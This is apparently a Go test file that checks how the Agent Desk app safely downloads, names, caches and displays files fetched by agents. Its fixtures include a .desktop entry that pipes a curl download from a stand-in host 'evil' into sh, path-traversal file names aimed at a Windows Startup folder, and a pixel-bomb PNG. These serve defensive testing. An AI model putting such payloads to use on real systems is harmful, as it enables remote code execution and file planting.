package app_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"hash/crc32"
	"image"
	"image/color"
	"image/png"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/agentdesk/agentdesk/app"
	"github.com/agentdesk/agentdesk/app/apptest"
	"github.com/agentdesk/agentdesk/client"
	"github.com/agentdesk/agentdesk/internal/safe"
	"github.com/agentdesk/agentdesk/storage"
)

// Contents a hostile or careless service might put behind an output's
// address.
var (
	mp4Head  = []byte("\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2")
	exeHead  = append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 200)...)
	desktop  = []byte("[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n")
	smallPNG = func() []byte {
		img := image.NewRGBA(image.Rect(0, 0, 4, 3))
		img.Set(1, 1, color.RGBA{R: 200, A: 255})
		var b bytes.Buffer
		_ = png.Encode(&b, img)
		return b.Bytes()
	}()
)

// bombPNG is the start of a PNG that claims w × h pixels: its header alone
// is valid, which is all a decoder reads before it allocates the picture.
func bombPNG(w, h uint32) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], w)
	binary.BigEndian.PutUint32(ihdr[4:], h)
	ihdr[8], ihdr[9] = 8, 2 // 8-bit RGB
	chunk := append([]byte("IHDR"), ihdr...)
	_ = binary.Write(&b, binary.BigEndian, uint32(len(ihdr)))
	b.Write(chunk)
	_ = binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(chunk))
	b.Write(make([]byte, 2000)) // what follows is never read
	return b.Bytes()
}

// outputServer serves fixed contents by path, like a file host that names
// its files however it likes.
func outputServer(t *testing.T, files map[string][]byte) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, ok := files[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		_, _ = w.Write(b)
	}))
	t.Cleanup(srv.Close)
	return srv
}

// leftovers are the half-downloaded files in dir.
func leftovers(t *testing.T, dir string) []string {
	t.Helper()
	des, _ := os.ReadDir(dir)
	var out []string
	for _, de := range des {
		if strings.HasPrefix(de.Name(), ".") {
			out = append(out, de.Name())
		}
	}
	return out
}

// The cached copy's extension, and whether it may be opened, come from
// what the file is: an address ending in .exe or .desktop never makes a
// program of it.
func TestOutputKindComesFromContentNotAddress(t *testing.T) {
	a := apptest.Open(t)
	srv := outputServer(t, map[string][]byte{
		"/clip.exe":   mp4Head,
		"/run.exe":    exeHead,
		"/x.desktop":  desktop,
		"/pic.bat":    smallPNG,
		"/setup.lnk":  exeHead,
		"/plain.mp4":  exeHead,
		"/short.webm": []byte("\x00\x01MZ"),
	})
	cases := []struct {
		path, agentType string
		kind            safe.Kind
		ext             string
	}{
		{"/clip.exe", client.AgentVideo, safe.Video, ".mp4"},
		{"/run.exe", client.AgentVideo, safe.Other, ""},
		{"/x.desktop", client.AgentVideo, safe.PlainText, ".txt"},
		{"/pic.bat", client.AgentImage, safe.Image, ".png"},
		{"/setup.lnk", client.AgentImage, safe.Other, ""},
		{"/plain.mp4", client.AgentVideo, safe.Other, ""},
		{"/short.webm", client.AgentVideo, safe.Other, ""},
	}
	for _, c := range cases {
		out, err := a.Runs().FetchOutputFile(context.Background(), c.agentType, srv.URL+c.path, nil)
		if err != nil {
			t.Fatalf("%s: %v", c.path, err)
		}
		if out.Kind != c.kind || out.Ext != c.ext || filepath.Ext(out.Path) != c.ext {
			t.Errorf("%s: kind %v, ext %q, file %s; want %v with extension %q", c.path, out.Kind, out.Ext, filepath.Base(out.Path), c.kind, c.ext)
		}
		if got, want := safe.Openable(out.Kind), c.kind == safe.Video || c.kind == safe.Image; got != want {
			t.Errorf("%s: openable %v", c.path, got)
		}
		// The older call hands back the same copy, from the cache.
		p, err := a.Runs().FetchOutput(context.Background(), srv.URL+c.path)
		if err != nil || p != out.Path {
			t.Errorf("%s: FetchOutput gave %s (%v), want the cached %s", c.path, p, err, out.Path)
		}
		if c.kind == safe.Image && out.NotShown != nil {
			t.Errorf("%s: a small picture should be shown: %v", c.path, out.NotShown)
		}
	}
	if a.Cache() != nil {
		if l := leftovers(t, a.Cache().Dir()); len(l) > 0 {
			t.Errorf("half-downloaded files left: %v", l)
		}
	}
}

// Save as proposes a name with no folders, no "..", nothing hidden or
// turning the text around, no name Windows refuses, of a sensible length,
// with the extension of what the file is (or of the agent type before it
// is known).
func TestOutputFileNameIsSafe(t *testing.T) {
	cases := []struct {
		agentType, url, want string
	}{
		{client.AgentImage, "https://cdn.example/render.png?sig=abc", "render.png"},
		{client.AgentImage, `https://cdn.example/..\..\Startup\evil.exe`, "evil.png"},
		{client.AgentImage, "https://cdn.example/..%5C..%5Cevil.exe", "evil.png"},
		{client.AgentImage, "https://cdn.example/a%2F..%2F..%2Fb.bat", "b.png"},
		{client.AgentVideo, "https://cdn.example/holiday\u202Egnp.exe", "holidaygnp.mp4"},
		{client.AgentVideo, "https://cdn.example/CON.mp4", "video.mp4"},
		{client.AgentVideo, "https://cdn.example/com1", "video.mp4"},
		{client.AgentImage, "https://cdn.example/", "image.png"},
		{client.AgentImage, "https://cdn.example", "image.png"},
		{client.AgentImage, "https://cdn.example/..", "image.png"},
		{client.AgentVideo, "https://cdn.example/line%0Abreak%07.mp4", "linebreak.mp4"},
	}
	for _, c := range cases {
		if got := app.OutputFileName(c.agentType, c.url); got != c.want {
			t.Errorf("OutputFileName(%s, %q) = %q, want %q", c.agentType, c.url, got, c.want)
		}
	}
	long := app.OutputFileName(client.AgentImage, "https://cdn.example/"+strings.Repeat("ä", 300)+".png")
	if n := len([]rune(long)); n > 84 || !strings.HasSuffix(long, ".png") {
		t.Errorf("a long name should be cut short: %d characters, %q", n, long)
	}
	for _, name := range []string{long, app.OutputFileName(client.AgentImage, "https://x/%E2%80%AE%00..%2F\t.png")} {
		if strings.ContainsAny(name, `/\`) || strings.Contains(name, "..") || strings.IndexFunc(name, unicode.IsControl) >= 0 || strings.ContainsRune(name, '\u202E') {
			t.Errorf("unsafe name %q", name)
		}
	}
	// Once the file is known, its real extension wins.
	if got := (app.Output{Kind: safe.Image, Ext: ".jpg"}).FileName(client.AgentImage, "https://cdn.example/photo.png"); got != "photo.jpg" {
		t.Errorf("a JPEG named .png should be saved as photo.jpg, got %q", got)
	}
	if got := (app.Output{Kind: safe.Other}).FileName(client.AgentVideo, "https://cdn.example/run.exe"); got != "run" {
		t.Errorf("a file of unknown kind gets no extension, got %q", got)
	}
}

// A download stops beyond the cap with a plain message, and leaves nothing
// behind.
func TestOutputDownloadStopsAtCap(t *testing.T) {
	a := apptest.Open(t)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		chunk := make([]byte, 1<<20)
		copy(chunk, smallPNG[:16])
		for n := int64(0); n <= app.MaxImageOutputBytes+(4<<20); n += int64(len(chunk)) {
			if _, err := w.Write(chunk); err != nil {
				break
			}
			copy(chunk, make([]byte, 16))
		}
	}))
	t.Cleanup(srv.Close)
	for _, agentType := range []string{client.AgentImage, ""} {
		_, err := a.Runs().FetchOutputFile(context.Background(), agentType, srv.URL+"/huge.png", nil)
		var big *app.OutputTooLargeError
		if !errors.As(err, &big) || big.Limit != app.MaxImageOutputBytes {
			t.Fatalf("a picture over the cap should stop with OutputTooLargeError, got %v", err)
		}
		if msg := app.Describe(err); !strings.Contains(msg, "(50 MB)") || strings.Contains(msg, "GET") {
			t.Errorf("the message should be plain: %q", msg)
		}
	}
	if a.Cache() != nil {
		if l := leftovers(t, a.Cache().Dir()); len(l) > 0 {
			t.Errorf("half-downloaded files left: %v", l)
		}
		if a.Cache().Size() != 0 {
			t.Errorf("nothing should be kept, the cache holds %d bytes", a.Cache().Size())
		}
	}
	if app.MaxVideoOutputBytes < app.MaxImageOutputBytes {
		t.Error("videos may be larger than pictures")
	}
}

// A download shows what has arrived so far, can be cancelled (keeping
// nothing), and tried again.
func TestOutputDownloadShowsProgressAndCancels(t *testing.T) {
	a := apptest.Open(t)
	release := make(chan struct{})
	var once sync.Once
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-release:
			_, _ = w.Write(append(append([]byte{}, mp4Head...), make([]byte, 100_000)...))
			return
		default:
		}
		_, _ = w.Write(append(append([]byte{}, mp4Head...), make([]byte, 64_000)...))
		w.(http.Flusher).Flush()
		select {
		case <-r.Context().Done():
		case <-release:
		}
	}))
	t.Cleanup(func() { once.Do(func() { close(release) }); srv.Close() })

	d := a.Runs().OutputFile(client.AgentVideo, srv.URL+"/clip")
	waitFor := func(what string, cond func(app.OutputState) bool) app.OutputState {
		t.Helper()
		deadline := time.Now().Add(15 * time.Second)
		for {
			s, _ := d.State().Snapshot()
			if cond(s) {
				return s
			}
			if time.Now().After(deadline) {
				t.Fatalf("gave up waiting for %s: %+v", what, s)
			}
			time.Sleep(5 * time.Millisecond)
		}
	}
	waitFor("progress", func(s app.OutputState) bool { return s.Loading && s.Received > 0 })
	d.Cancel()
	s := waitFor("the cancel", func(s app.OutputState) bool { return !s.Loading })
	if !s.Cancelled || s.Err != nil || s.Loaded {
		t.Fatalf("a cancelled download should say so: %+v", s)
	}
	if a.Cache() != nil {
		if l := leftovers(t, a.Cache().Dir()); len(l) > 0 {
			t.Errorf("half-downloaded files left: %v", l)
		}
	}
	once.Do(func() { close(release) })
	d.Retry()
	s = waitFor("the retry", func(s app.OutputState) bool { return !s.Loading })
	if !s.Loaded || s.Output.Kind != safe.Video || s.Output.Size != int64(len(mp4Head)+100_000) || s.Received != s.Output.Size {
		t.Fatalf("trying again should fetch the video: %+v", s)
	}
}

// A picture that claims more pixels than can be decoded safely is not
// shown (it can still be saved); its header is all that is read.
func TestPictureOverPixelCapIsNotShown(t *testing.T) {
	a := apptest.Open(t)
	srv := outputServer(t, map[string][]byte{
		"/bomb.png":  bombPNG(30000, 30000),
		"/wide.png":  bombPNG(1_000_000, 41),
		"/small.png": smallPNG,
	})
	for _, p := range []string{"/bomb.png", "/wide.png"} {
		out, err := a.Runs().FetchOutputFile(context.Background(), client.AgentImage, srv.URL+p, nil)
		if err != nil {
			t.Fatal(err)
		}
		var pe *app.PictureError
		if out.Kind != safe.Image || !errors.As(out.NotShown, &pe) || pe.Reason != app.PictureTooBig {
			t.Fatalf("%s: a picture of too many pixels should not be shown: %+v", p, out)
		}
		if err := app.CheckPictureFile(out.Path); !errors.As(err, &pe) {
			t.Errorf("%s: CheckPictureFile: %v", p, err)
		}
		if msg := app.Describe(out.NotShown); !strings.Contains(msg, "too large to show") {
			t.Errorf("%s: the reason should be plain: %q", p, msg)
		}
		var saved bytes.Buffer
		if err := a.Runs().SaveOutput(context.Background(), srv.URL+p, &saved); err != nil || saved.Len() == 0 {
			t.Errorf("%s: it can still be saved: %v", p, err)
		}
	}
	out, err := a.Runs().FetchOutputFile(context.Background(), client.AgentImage, srv.URL+"/small.png", nil)
	if err != nil || out.NotShown != nil || app.CheckPictureFile(out.Path) != nil {
		t.Fatalf("a small picture is shown: %+v, %v", out, err)
	}
}

// Without a downloads cache, a session copy goes in Agent Desk's own cache
// folder (not the system's shared temporary folder), private to the user.
func TestSessionCopyStaysInTheAppsCacheFolder(t *testing.T) {
	p := storage.PathsIn(t.TempDir())
	if err := os.MkdirAll(p.Cache, 0o700); err != nil {
		t.Fatal(err)
	}
	// A file where the downloads folder should be: the cache cannot open.
	if err := os.WriteFile(p.DownloadsDir(), []byte("in the way"), 0o600); err != nil {
		t.Fatal(err)
	}
	a := apptest.Open(t, func(c *app.Config) { c.Paths = p })
	if a.Cache() != nil {
		t.Fatal("the cache should not have opened")
	}
	srv := outputServer(t, map[string][]byte{"/clip.exe": mp4Head})
	out, err := a.Runs().FetchOutputFile(context.Background(), client.AgentVideo, srv.URL+"/clip.exe", nil)
	if err != nil {
		t.Fatal(err)
	}
	if filepath.Dir(out.Path) != p.Cache || filepath.Ext(out.Path) != ".mp4" || !strings.HasPrefix(filepath.Base(out.Path), "agentdesk-") {
		t.Fatalf("the session copy should be an unguessable .mp4 in %s, got %s", p.Cache, out.Path)
	}
	info, err := os.Stat(out.Path)
	if err != nil || info.Mode().Perm()&0o077 != 0 {
		t.Fatalf("the session copy should be the user's only: %v, %v", info.Mode(), err)
	}
	if l := leftovers(t, p.Cache); len(l) > 0 {
		t.Errorf("half-downloaded files left: %v", l)
	}
}
